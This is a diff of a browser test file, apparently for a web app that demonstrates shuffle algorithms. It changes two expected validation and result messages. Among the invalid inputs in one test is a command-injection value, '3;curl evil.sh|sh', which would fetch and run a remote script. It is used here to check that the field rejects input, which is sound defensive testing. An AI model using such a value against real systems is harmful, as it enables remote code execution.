@@ -99,7 +99,7 @@ for (const browser of BROWSERS) {
     });
 
     test("a number that is none is told at its field, in both languages", async () => {
-      for (const [lang, told] of [["en", "a whole number from 1 to 104"], ["zh", "应为 1 到 104 的整数"]]) {
+      for (const [lang, told] of [["en", "Enter a whole number from 1 to 104."], ["zh", "应为 1 到 104 的整数"]]) {
         for (const n of ["-1", "x", "3;curl evil.sh|sh", "105", ""]) {
           const page = await open(driver, `#prove?classic=naive_swap&lang=${lang}&n=${encodeURIComponent(n)}`);
           await until(page, (told) => document.querySelector("[role=alert]")?.textContent === told, told);
@@ -118,7 +118,7 @@ for (const browser of BROWSERS) {
       await shown(page);
       const said = await text(page, "main");
       assert.match(said, /Total variation distance from uniform: 0A/);
-      assert.match(await text(page, ".detail"), /exactly as often as it should/);
+      assert.match(await text(page, ".detail"), /exactly as often as expected/);
       await page.evaluate(() => {
         location.hash = "#prove?classic=durstenfeld&n=4&dice=modulo:15&lang=en";
       });
